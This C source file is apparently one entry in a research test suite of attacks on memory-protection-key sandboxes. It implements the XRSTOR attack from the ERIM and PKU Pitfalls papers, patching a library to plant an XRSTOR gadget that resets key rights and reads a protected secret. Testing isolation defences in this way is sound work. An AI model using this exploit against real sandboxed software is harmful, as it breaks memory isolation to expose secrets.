/* Tries: to open its keys by XRSTOR, from an image in its memory
 * From: ERIM (Vahldiek-Oberwagner et al., USENIX Security 2019); PKU Pitfalls (Connor et al.,
 *   USENIX Security 2020)
 * Observed: The secret in what the call gave back.
 * Needs: machine-code, keys, load */
#include "attacks/attack.h"

#ifdef ATTACK_FOREIGN
FOREIGN(run)
{
    static uint64_t image[512] __attribute__((aligned(64)));
    image[64] = 1 << 9; /* of all components the keys alone, whose rights are all */
    __asm__ volatile("mov $0x200, %%eax\n\txor %%edx, %%edx\n\tmov $0x4b524f13, %%r10d"
                     :
                     : "D"(image)
                     : "rax", "rdx", "r10", "memory");
    take(at, at->secret_global);
    return 0;
}
#endif

#ifdef ATTACK_HOST
/* A copy of the library in which there is an XRSTOR. */
HOST(run)
{
    static const uint8_t marker[] = {0x41, 0xba, 0x13, 0x4f, 0x52, 0x4b},
                         bytes[] = {0x90, 0x90, 0x90, 0x0f, 0xae, 0x2f};
    size_t size = 0;
    unsigned char *file = host_read_library(host, &size);
    if (host->places[PLACE_gate_start])
        for (size_t i = 0; i + 64 < size; i++)
            if (!memcmp(file + i, marker, sizeof(marker)))
                memcpy(file + i, bytes, sizeof(bytes));
    enum og_error error = host_open_changed(host, file, size);
    free(file);
    return error ? error : host_call_other(host, 0);
}
#endif
